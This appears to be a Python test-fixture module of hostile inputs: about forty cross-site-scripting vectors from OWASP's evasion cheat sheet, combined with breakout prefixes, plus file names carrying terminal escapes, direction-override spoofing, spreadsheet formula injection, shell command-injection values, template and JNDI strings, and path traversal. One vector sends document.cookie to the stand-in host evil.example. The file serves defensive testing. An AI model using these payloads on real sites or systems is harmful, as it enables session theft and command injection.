"""Texts that somebody might put where a name is expected: markup and scripts for pages, names for files.

The vectors are of the kinds that OWASP's "Cross Site Scripting Filter Evasion Cheat Sheet" lists: tags with
handlers, addresses that are scripts, elements that end another one, markup written in other ways; each in
every place that it may have to leave.
"""

_VECTORS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\x0d\x0a>alert(1)</script >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>fetch('//evil.example/'+document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror\x0c=alert(1)//",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
    "<embed src=//evil.example/x.swf>",
    "<a href=javascript:alert(1)>name</a>",
    "<a href='jav&#x0A;ascript:alert(1)'>name</a>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<form action=//evil.example><button>name</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<style>@import'//evil.example/x.css';*{display:none}</style>",
    "<div style='background:url(//evil.example/x)'>",
    "<table><tr><td>one more row</td></tr></table>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "{{constructor.constructor('alert(1)')()}}${alert(1)}",
)
# Of an attribute in either kind of quotation marks, of a comment, of an element whose text is no markup.
_LEAVING = (
    "",
    '" onmouseover="alert(1)">',
    "' onmouseover='alert(1)'>",
    "-->",
    "</title></style></script></pre>",
)

HTML: tuple[str, ...] = tuple(leaving + vector for vector in _VECTORS for leaving in _LEAVING)
"""Two hundred texts that a page must show and not obey."""

NAMES: tuple[bytes, ...] = (
    # Terminals: titles, colours, the cursor, what is typed next (ESC, its C1 form, DCS, bell, backspace).
    *(
        b"\x1b]0;owned\x07",
        b"\x1b[2J\x1b[H",
        b"\x1b[31mred",
        b"\x1bP+q\x1b\\",
        b"\xc2\x9b31m",
        b"a\x08\x08b\x7f",
        b"\x0e",
    ),
    # The direction of writing, and letters that are not seen.
    *(
        text.encode()
        for text in ("\u202egnp.exe", "a\u2066b\u2069", "\u200bzero\u200d", "\u00adsoft", "\ufeffmark")
    ),
    *(
        text.encode()
        for text in ("line\u2028line", "\U000e0041tag", "\u0627\u0644\u0639", "\u05d0bc", "e\u0301" * 30)
    ),
    # No UTF-8: bytes of other encodings, halves of characters, overlong forms.
    *(
        b"\xff\xfe",
        b"\x80",
        b"caf\xe9",
        b"\xed\xa0\x80",
        b"\xc0\xaf",
        b"\xf4\x90\x80\x80",
        "тест".encode("cp1251"),
    ),
    # Lines and spaces.
    *(b"two\nlines", b"\r\n", b"tab\tulator", b" ", b" begin", b"end ", b"a\x0bb\x0cc", b"\xc2\xa0"),
    # Drawings and formulas.
    *(
        b"$x$",
        b"$\\frac{1}{0}$",
        b"$$",
        b"$",
        b"\\$",
        b"$\\mathdefault{x}",
        b"100 % $ of _ ^ {}",
        b"\\input{x}",
    ),
    *(b"=cmd|'-c calc'!A1", b"+1", b"-1", b"@SUM(1)", b'=HYPERLINK("x")'),
    # Shells, command lines, templates, formats.
    *(
        b"-rf",
        b"--help",
        b"$(touch x)",
        b"`touch x`",
        b"a;touch x",
        b"a|touch x",
        b"a&calc&rem",
        b"%PATH%",
        b"!x!",
    ),
    *(
        b"'",
        b'"',
        b"'\"`",
        b"*",
        b"?",
        b"~",
        b"#",
        b"%s%n%x",
        b"{}",
        b"{0.__class__}",
        b"{{7*7}}",
        b"${jndi:x}",
    ),
    # Paths, and what other systems take for something else.
    *(b"..\\..\\x", b"C:", b"\\\\host\\share", b"%2e%2e%2fx", b"CON", b"nul.txt", b"a:b", b"x.", b"x" * 200),
    # Numbers that are none, and markup.
    *(
        "1\u00b23".encode(),
        "\u0661\u0662".encode(),
        b"1e999",
        b"nan",
        b"True",
        b"null",
        b"]]>",
        b"&amp;",
        b"<b>",
        b"&#x1b;",
    ),
)
"""Names that a file can have: any bytes but a slash and a zero."""
